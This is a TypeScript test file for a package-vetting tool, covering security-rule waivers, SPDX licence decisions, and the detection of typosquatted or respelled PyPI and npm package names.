        ref: first.sha
      }),
      requestRow({
        request_id: 'r-new-code',
        package_name: 'calc',
        repo_url: first.url,
        ref: second
      })
    ]);
    logged = [];
    await runOnce({ mode: 'local', workspace: ws.root, write: line => logged.push(line) });
    rows = await results(ws);
  });

  it('approves the waived commit and names every waiver used in the results row and the report', async () => {
    const row = rows.find(r => r.request_id === 'r-waived')!;
    assert.equal(row.decision, 'approved', row.reason);
    assert.match(row.waivers, /B307@calc \(infosec@example.com, until 2099-12-31: INFOSEC-7/);
    assert.match(row.waivers, /repoguard.python.eval-parameter@calc/);
    const md = await readFile(path.join(ws.reportsDir, 'r-waived', 'report.md'), 'utf8');
    assert.match(md, /## Waivers applied\n\n\| rule/);
    assert.match(md, /`calc.py:5`/);
  });

  it('refuses the next commit of the same package: a waiver never carries over to new code', () => {
    const row = rows.find(r => r.request_id === 'r-new-code')!;
    assert.equal(row.decision, 'refused');
    assert.equal(row.waivers, '');
  });

  it('logs the malformed waiver row it ignored', () => {
    assert.ok(
      logged.some(l => /external-package-waivers.csv line 5 ignored: wildcards/.test(l)),
      logged.join('\n')
    );
  });
});

describe('policy: licence expressions and typosquat names', () => {
  it('judges SPDX expressions: OR is denied only when every choice is, AND when one part is', async () => {
    const lic = (id: string) =>
      finding({
        scanner: 'licence',
        ruleId: `licence/${id}`,
        category: 'licence',
        severity: 'info',
        path: 'LICENSE'
      });
    assert.equal((await decideOf([lic('MIT OR AGPL-3.0-only')])).decision, 'approved');
    assert.equal((await decideOf([lic('MIT AND AGPL-3.0')])).decision, 'refused');
    assert.equal((await decideOf([lic('AGPL-3.0-or-later')])).decision, 'refused');
    assert.equal((await decideOf([lic('none')])).decision, 'approved', 'no licence is low');
    assert.equal(
      (
        await decideOf([lic('(MIT OR Apache-2.0)')], {
          policy: { licence: { allow: ['Apache-2.0'] } }
        })
      ).decision,
      'approved'
    );
  });

  it('flags names one edit away from a popular package of the same ecosystem, never the popular names themselves', async () => {
    const { typosquatOf, nameFindings, nameKey, sameName, popular } =
      await import('../src/policy/index.js');
    assert.equal(typosquatOf('reqeusts', 'pypi'), 'requests');
    assert.equal(typosquatOf('requestss', 'pypi'), 'requests');
    assert.equal(typosquatOf('lodsah', 'npm'), 'lodash');
    // Separate lists: npm's popular `request` does not make a PyPI `request` canonical.
    assert.equal(typosquatOf('request', 'pypi'), 'requests');
    assert.equal(typosquatOf('request', 'npm'), null);
    // npm's canonical `yaml` is not a typosquat of anything.
    assert.equal(typosquatOf('yaml', 'npm'), null);
    assert.equal(typosquatOf('@evil/lodsah', 'npm'), 'lodash', 'a scope does not hide the name');
    for (const name of [
      'requests',
      'Requests',
      'python_dateutil',
      'typing_extensions',
      'Typing.Extensions',
      'charset-normalizer',
      'six',
      'flask',
      'pyyaml',
      'statlite',
      'calc'
    ]) {
      assert.equal(typosquatOf(name, 'pypi'), null, name);
    }
    for (const name of [
      'lodash',
      'yaml',
      'ms',
      'chalk',
      'semver',
      '@types/node',
      'node-fetch',
      'js-yaml'
    ]) {
      assert.equal(typosquatOf(name, 'npm'), null, name);
    }
    // The lists are the registries' download rankings (thousands of names), not the test corpus.
    assert.ok(popular('pypi').all.size >= 10000 && popular('npm').all.size >= 10000);
    assert.ok(popular('npm').all.has('yaml') && !popular('pypi').all.has('lodash'));
    // PEP 503 / npm normalisation, and the one-name-one-source comparison.
    assert.equal(nameKey('Typing_Extensions', 'pypi'), 'typing-extensions');
    assert.equal(nameKey('zope.interface', 'pypi'), 'zope-interface');
    assert.equal(nameKey('Node.Fetch', 'npm'), nameKey('node-fetch', 'npm'));
    assert.ok(sameName('typing_extensions', 'typing-extensions'));
    assert.ok(sameName('Flask', 'flask'));
    assert.ok(!sameName('requests', 'request'));
    // The one-name-one-source rule (ingest): a respelling is the same name.
    const { ingestOne, publishedSources } = await import('../src/stages/ingest.js');
    const published = publishedSources({
      rows: [
        {
          values: {
            decision: 'approved',
            package_name: 'typing_extensions',
            repo_url: 'https://github.com/python/typing_extensions.git'
          }
        }
      ]
    } as never);
    for (const respelled of ['typing-extensions', 'Typing.Extensions', 'typingextensions']) {
      const item = {
        request: requestRow({
          package_name: respelled,
          repo_url: 'https://github.com/mallory/typing-extensions.git'
        }),
        row: 2,
        key: 'r-respelled'
      } as never as IManifestItem;
      const said = await ingestOne(
        { dir: '/nonexistent' } as never,
        {} as never,
        item,
        { allowedHosts: ['github.com'], allowedLocalRoots: [] },
        published
      );
      assert.match(said, /already published from https:\/\/github.com\/python/, respelled);
      assert.equal(item.decision, 'refused');
    }
    const fs = await nameFindings('reqeusts', undefined);
    assert.equal(fs[0].category, 'malicious');
    assert.equal((await decideOf(fs)).decision, 'refused');
    // A PyPI source named `request` is judged against PyPI's list.
    const dir = await tempDir('rg-names-');
    await writeFile(
      path.join(dir, 'setup.py'),
      'from setuptools import setup\nsetup(name="request")\n'
    );
    const named = await nameFindings('request', dir);
    assert.ok(
      named.length >= 1 && named.every(f => /PyPI package "requests"/.test(f.message)),
      JSON.stringify(named)
    );
    const npmDir = await tempDir('rg-names-npm-');
    await writeFile(path.join(npmDir, 'package.json'), '{ "name": "yaml", "version": "2.0.0" }\n');
    assert.deepEqual(await nameFindings('yaml', npmDir), [], 'npm yaml is canonical');
  });
});
